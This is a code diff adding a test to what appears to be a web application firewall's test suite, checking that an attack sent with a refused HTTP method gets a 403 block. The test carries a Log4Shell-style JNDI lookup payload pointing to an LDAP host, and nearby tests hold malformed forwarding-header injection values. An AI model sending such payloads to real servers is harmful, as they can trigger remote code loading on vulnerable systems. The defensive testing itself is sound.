@@ -131,6 +131,15 @@ def test_a_payload_in_a_referers_query_or_after_a_user_agent_is_blocked(sec_clie
     assert sec_client.get("/sec/waf/x", headers=browser).status_code == 200
 
 
+def test_an_attack_with_a_method_the_route_refuses_is_a_403_not_a_405(sec_client: httpx.Client) -> None:
+    # /me/ takes GET, HEAD and POST: a PATCH is refused either way, an attack as the attack it is
+    attack = sec_client.patch("/me/settings", json={"bio": "${jndi:ldap://203.0.113.9/a}"})
+    assert attack.status_code == 403 and attack.json()["error"] == "request_blocked", attack.text
+    plain = sec_client.patch("/me/settings", json={"bio": "Hiking, chess and green tea"})
+    assert plain.status_code == 405 and plain.json()["error"] == "method_not_allowed", plain.text
+    assert plain.headers["Allow"] == "GET, HEAD, POST"
+
+
 def test_a_forwarding_header_outside_its_grammar_is_blocked(sec_client: httpx.Client) -> None:
     # fragments no signature reads, in headers a proxy writes: an app logs or trusts them as the client's
     for attack in ({"X-Forwarded-For": "203.0.113.9, '"}, {"Forwarded": "for=203.0.113.9;host=--"},
